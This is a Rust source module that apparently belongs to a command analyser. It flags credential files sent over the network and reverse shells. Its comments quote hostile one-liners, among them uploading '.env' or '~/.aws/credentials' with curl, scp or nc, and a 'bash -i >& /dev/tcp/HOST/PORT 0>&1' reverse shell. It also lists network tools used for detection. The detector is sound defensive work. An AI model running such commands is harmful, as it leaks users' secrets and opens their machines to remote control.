//! Exfiltration: a credential file whose *content* goes over the network. Reading
//! a key to authenticate (`ssh -i`, `curl --cert`) is not sending it; uploading it
//! (`curl -d @.env`, `scp ~/.aws/credentials host:`), feeding it to a network
//! program's stdin (`nc host 80 < .env`) or piping it into one
//! (`cat id_rsa | curl --data-binary @- …`) is. Each gives an
//! `exfil.credential-upload` finding naming the file.

use super::walk::{Stream, Walker};
use super::words::Arg;
use crate::TargetKind;
use crate::analyze::paths::resolve_path;
use crate::analyze::tools::is_credential_path;

/// Programs that connect a raw socket to their stdin and stdout.
const RAW_SOCKETS: &[&str] = &["nc", "ncat", "netcat", "socat", "telnet", "openssl"];

/// Programs that send what they read on stdin to another machine.
const STDIN_SENDERS: &[&str] = &[
    "nc", "ncat", "netcat", "socat", "telnet", "ssh", "curl", "wget", "http", "https", "xh",
    "openssl", "ftp", "sftp", "aws", "gsutil", "rclone",
];

/// A file a network program uploads: a read target, and a finding when it holds
/// credentials.
pub(super) fn sent_file(walker: &mut Walker<'_>, file: &Arg, program: &str) {
    walker.add_path(file, TargetKind::Read, program);
    if file.is_literal() && !file.text.is_empty() && file.text != "-" {
        let path = resolve_path(&file.text, &walker.scope.context);
        report(walker, &path, program);
    }
}

/// A network program whose stdin is a credential file (`nc host 80 < .env`).
pub(super) fn check_stdin(walker: &mut Walker<'_>, program: &str, stdin: &Stream) {
    if let Stream::File(path) = stdin
        && STDIN_SENDERS.contains(&program)
    {
        let path = path.clone();
        report(walker, &path, program);
    }
}

/// A pipeline in which an earlier stage reads a credential file and a later one is
/// a network program: the file's content is what the later one sends.
/// `stages` holds, per stage, where its targets and commands start in the action.
pub(super) fn check_pipeline(walker: &mut Walker<'_>, stages: &[(usize, usize)]) {
    let first_command = stages.first().map_or(0, |&(_, commands)| commands);
    let programs: Vec<&str> = walker
        .action
        .commands
        .get(first_command..)
        .unwrap_or_default()
        .iter()
        .map(|command| command.program.as_str())
        .collect();
    let has_shell = programs
        .iter()
        .any(|program| super::code::is_shell(program));
    let socket = programs
        .iter()
        .find(|program| RAW_SOCKETS.contains(program))
        .map(|program| (*program).to_owned());
    if has_shell && let Some(socket) = socket {
        reverse_shell(walker, &format!("a shell piped through `{socket}`"));
    }
    let home = walker.scope.context.home.clone();
    let mut credential: Option<String> = None;
    for (index, &(targets_from, commands_from)) in stages.iter().enumerate() {
        if let Some(path) = &credential {
            let commands_to = stages
                .get(index + 1)
                .map_or(walker.action.commands.len(), |&(_, to)| to);
            let sender = walker
                .action
                .commands
                .get(commands_from..commands_to)
                .unwrap_or_default()
                .iter()
                .find(|command| STDIN_SENDERS.contains(&command.program.as_str()))
                .map(|command| command.program.clone());
            if let Some(sender) = sender {
                let path = path.clone();
                report(walker, &path, &sender);
                return;
            }
        }
        let targets_to = stages
            .get(index + 1)
            .map_or(walker.action.targets.len(), |&(to, _)| to);
        if credential.is_none() {
            credential = walker
                .action
                .targets
                .get(targets_from..targets_to)
                .unwrap_or_default()
                .iter()
                .find(|target| {
                    target.kind == TargetKind::Read && is_credential_path(&target.path, &home)
                })
                .map(|target| target.path.clone());
        }
    }
}

/// A line that opens a socket with a `/dev/tcp` redirection and runs a shell:
/// the classic `bash -i >& /dev/tcp/HOST/PORT 0>&1`.
pub(super) fn check_socket_shell(walker: &mut Walker<'_>) {
    let shell = walker
        .action
        .commands
        .iter()
        .find(|command| super::code::is_shell(&command.program) || command.program == "exec")
        .map(|command| command.program.clone());
    if let Some(shell) = shell {
        reverse_shell(
            walker,
            &format!("`{shell}` with its input and output on a /dev/tcp socket"),
        );
    }
}

/// Adds the `net.reverse-shell` finding.
pub(super) fn reverse_shell(walker: &mut Walker<'_>, how: &str) {
    walker.action.add_finding(
        "net.reverse-shell",
        None,
        format!("a shell handed to a network peer: {how}"),
    );
}

fn report(walker: &mut Walker<'_>, path: &str, program: &str) {
    if is_credential_path(path, &walker.scope.context.home) {
        walker.action.add_finding(
            "exfil.credential-upload",
            Some(path),
            format!("`{program}` sends the credential file {path} over the network"),
        );
    }
}
